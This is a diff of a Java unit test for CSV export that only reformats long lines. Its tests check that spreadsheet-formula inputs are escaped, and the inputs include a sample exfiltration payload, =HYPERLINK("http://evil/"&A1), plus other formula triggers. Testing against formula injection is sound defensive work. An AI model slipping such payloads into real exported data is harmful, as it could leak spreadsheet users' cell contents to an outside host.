@@ -42,8 +42,8 @@ class FileFormatTest {
         for (Item item : items) {
             file.writeBytes(format.line(item).bytes());
         }
-        try (MappingIterator<String[]> lines = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY)
-                .readValues(file.toByteArray())) {
+        try (MappingIterator<String[]> lines = new CsvMapper().readerFor(String[].class)
+                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(file.toByteArray())) {
             return lines.readAll();
         }
     }
@@ -67,16 +67,17 @@ class FileFormatTest {
     @Test
     void aRecordHasAColumnPerField() throws IOException {
         FileFormat format = csv("id", "crawl", "epoch", "url", "title", "price", "tags", "none");
-        List<String[]> lines = read(format,
-                item(Map.of("title", "a \"quoted\", text\nof two lines", "price", -2.5, "tags", List.of("a", Map.of("b", 1)))));
+        List<String[]> lines = read(format, item(Map.of("title", "a \"quoted\", text\nof two lines", "price", -2.5,
+                "tags", List.of("a", Map.of("b", 1)))));
         assertThat(lines).hasSize(2);
         assertThat(lines.get(0)).containsExactly("id", "crawl", "epoch", "url", "title", "price", "tags", "none");
-        assertThat(lines.get(1)).containsExactly("i1", "docs", "3", "https://h/ä", "a \"quoted\", text\nof two lines", "-2.5",
-                "[\"a\",{\"b\":1}]", "");
+        assertThat(lines.get(1)).containsExactly("i1", "docs", "3", "https://h/ä", "a \"quoted\", text\nof two lines",
+                "-2.5", "[\"a\",{\"b\":1}]", "");
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"=HYPERLINK(\"http://evil/\"&A1)", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1"})
+    @ValueSource(strings = {"=HYPERLINK(\"http://evil/\"&A1)", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+            "\uff1d1"})
     void aTextThatASpreadsheetTakesForAFormulaIsText(String text) throws IOException {
         assertThat(read(csv("id", "title"), item(Map.of("title", text))).get(1)[1]).isEqualTo("'" + text);
     }
